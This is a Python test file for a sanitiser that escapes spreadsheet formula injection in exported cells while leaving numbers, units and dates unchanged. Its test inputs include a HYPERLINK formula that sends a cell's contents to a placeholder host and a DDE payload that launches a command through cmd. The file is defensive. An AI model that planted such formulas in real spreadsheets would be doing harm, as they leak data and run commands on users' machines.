"""Cells of files for spreadsheets: nothing in them is carried out, and a number stays a number."""

from __future__ import annotations

import pytest

from entact.conduct.cells import cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://a.example/"&A1,"x")',
        '=1 +HYPERLINK("https://a.example/"&A1,"x")',  # begins as a number with a unit does
        "+1 +cmd|' /C calc'!A0",
        "-1 @SUM(A1)",
        "@SUM(A1)",
        "＝1+1",  # a sign of full width
        " =1+1",
        "\n=1+1",
        "\t1",
        "=1",
        "-3.5+A1",
        "-3.5 kg-A1",
    ],
)
def test_what_a_spreadsheet_would_carry_out_is_text(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    ["-3.5", "+2", "-1.5 mm[Hg]", "-2 10*9/L", "-.5", "-1e-05", "3 - 4", "a=b", "", "1 kg/m2", "2026-03-16"],
)
def test_what_is_none_stays_as_it_is(text: str) -> None:
    assert cell(text) == text
